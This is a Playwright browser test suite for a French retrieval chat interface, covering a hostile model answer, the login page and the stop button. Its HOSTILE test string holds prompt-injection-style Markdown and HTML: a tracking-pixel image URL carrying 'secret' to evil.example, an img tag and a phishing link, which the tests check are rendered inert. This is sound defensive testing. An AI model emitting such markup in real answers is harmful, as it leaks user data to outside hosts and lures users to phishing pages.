"""The page in headless Chromium with scripted models: hostile Markdown and HTML, a slow answer to stop, a login.

What a model writes is shown as text: no image, no remote request, no link but
the citation chips and the sources' own addresses, while it streams and after.
Stop is tested against a model that writes one word every 0.4 s, so the click
always lands while the answer streams (the real model may finish first).
"""

import json
import time
from pathlib import Path

import pytest

from conftest import ScriptedLLM, fake_values
from servers import free_port

pytestmark = pytest.mark.slow
CHROMIUM = "/usr/bin/chromium"
ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"
PASSAGE = (
    "La pêche au thon reprend à Sète après la tempête, disent les pêcheurs du port. "
    "Les bateaux sont restés à quai pendant douze jours à cause des vagues. "
    "La criée de Sète attend trois cents tonnes de thon rouge cette semaine. "
    "Le maire de Sète salue le courage des équipages revenus au port. "
)
HOSTILE = (
    "Voici la réponse ![suivi](https://evil.example/pixel.png?q=secret) <img src=https://evil.example/i.png> "
    "[cliquez ici](https://evil.example/phish) https://evil.example/bare et $$x$$ [1]. "
    "La pêche au thon reprend à Sète [1]."
)


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} not found — `make test` installs Debian's chromium")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(
            executable_path=CHROMIUM,
            headless=True,
            args=["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
        )
        yield b
        b.close()


class SlowLLM(ScriptedLLM):
    """Copies the passage's sentences with their marker, one word every 0.4 s."""

    def __init__(self):
        super().__init__(" ".join(s.rstrip(". ") + " [1]." for s in PASSAGE.split(". ") if s.strip()))

    def stream(self, messages, max_tokens):
        for piece in super().stream(messages, max_tokens):
            time.sleep(0.4)
            yield piece


def serve(tmp_path, llm=HOSTILE, **settings):
    from rag.config import load_settings
    from rag.models import llms
    from rag.pipeline import build
    from ui.app import launch

    llms.REGISTRY["hostile"] = lambda s: ScriptedLLM(HOSTILE)
    llms.REGISTRY["slow"] = lambda s: SlowLLM()
    port = free_port()
    backend = "hostile" if llm == HOSTILE else "slow"
    config = fake_values(tmp_path, **{"llm.backend": backend, "ui.port": port, **settings})
    pipeline = build(load_settings(config, environ={}))
    pipeline.add_text(PASSAGE, source="Le Petit Port")
    return launch(pipeline, block=False), f"http://127.0.0.1:{port}/"


def test_a_hostile_answer_loads_nothing_remote_while_it_streams(browser, tmp_path):
    app, url = serve(tmp_path)
    context = browser.new_context(locale="fr-FR")
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    try:
        page.goto(url)
        page.wait_for_selector("#nd-question textarea")
        images = []
        page.fill("#nd-question textarea", "Où la pêche au thon reprend-elle ?")
        page.keyboard.press("Enter")
        for _ in range(150):  # sample the chat while the answer streams and once it is checked
            images.append(page.locator("#nd-chat img").count())
            if page.locator("#nd-chat .nd-answer").count():
                break
            page.wait_for_timeout(100)
        page.wait_for_selector("#nd-chat .nd-answer")
        for summary in page.locator("#nd-chat .nd-left-out summary").all():
            summary.click()  # the sentences left out are shown on demand: they must be as inert as the answer
        images.append(page.locator("#nd-chat img").count())
        page.wait_for_timeout(500)
        page.screenshot(path=str(ARTIFACTS / "hostile-answer.png"), full_page=True)
        remote = [u for u in requests if not u.startswith(url) and not u.startswith(("data:", "blob:"))]
        assert remote == []  # nothing left 127.0.0.1: no pixel, no image, no font
        assert max(images) == 0
        links = page.eval_on_selector_all("#nd-chat a", "els => els.map(e => e.getAttribute('href'))")
        assert all(h.startswith("#nd-src-") for h in links), links  # only citation chips are links in the answer
        shown = page.locator("#nd-chat").inner_text()
        assert "evil.example" in shown or "ne le disent pas" in shown  # shown as text (answer or left out) or refused
    finally:
        context.close()
        app.close()


def test_the_login_page_works_and_nothing_is_shown_before_it(browser, tmp_path):
    ARTIFACTS.mkdir(exist_ok=True)
    app, url = serve(tmp_path, **{"ui.auth": "alice:s3cret"})
    context = browser.new_context(locale="fr-FR")
    page = context.new_page()
    try:
        page.goto(url)
        page.wait_for_selector("input[type=password]", timeout=30000)
        assert page.locator("#nd-question").count() == 0
        page.screenshot(path=str(ARTIFACTS / "login.png"))
        page.locator("input[type=text]").first.fill("alice")
        page.locator("input[type=password]").fill("s3cret")
        page.keyboard.press("Enter")
        page.wait_for_selector("#nd-question textarea", timeout=30000)
    finally:
        context.close()
        app.close()


def test_stop_keeps_the_checked_sentences_marked_and_the_next_question_is_answered(browser, tmp_path):
    app, url = serve(tmp_path, llm="slow")
    context = browser.new_context(locale="fr-FR")
    page = context.new_page()
    try:
        page.goto(url)
        page.wait_for_selector("#nd-question textarea")
        page.fill("#nd-question textarea", "Où la pêche au thon reprend-elle ?")
        page.keyboard.press("Enter")
        page.wait_for_selector("#nd-chat .nd-answer a.nd-chip", timeout=60000)
        page.click("#nd-stop")
        page.wait_for_selector("#nd-chat .nd-stopped", timeout=30000)
        answer = page.locator("#nd-chat .nd-answer").last
        assert answer.locator("a.nd-chip").count() >= 1  # what was shown stays, with its citations
        assert "[1]" not in answer.inner_text()  # no raw marker
        assert page.locator("#nd-sources-panel .nd-source").count() >= 1
        page.screenshot(path=str(ARTIFACTS / "chat-stopped.png"), full_page=True)
        saved = json.loads(
            max((tmp_path / "data" / "conversations").rglob("*.json"), key=lambda p: p.stat().st_mtime).read_text()
        )
        stopped = saved["turns"][-1]["answer"]
        assert stopped["stopped"] and stopped["citations"] and all(s["supported"] for s in stopped["sentences"])
        assert len(stopped["sentences"]) < 3  # stopped before the model finished
        # Stopped before any sentence: nothing is shown as an answer, and the model is free for the next question.
        page.fill("#nd-question textarea", "Que dit le maire de Sète ?")
        page.keyboard.press("Enter")
        page.wait_for_timeout(300)
        page.click("#nd-stop")
        page.wait_for_function("document.querySelectorAll('#nd-chat .nd-stopped').length >= 2", timeout=30000)
        page.fill("#nd-question textarea", "Que dit le maire de Sète ?")
        page.keyboard.press("Enter")
        page.wait_for_function(
            """() => {
                const answers = document.querySelectorAll('#nd-chat .nd-answer');
                const last = answers[answers.length - 1];
                return document.querySelectorAll('#nd-chat .nd-stopped').length >= 2 && last.querySelector('a.nd-chip')
                    && !last.querySelector('.nd-stopped') && document.querySelector('#nd-send:not([disabled])');
            }""",
            timeout=60000,
        )
    finally:
        context.close()
        app.close()
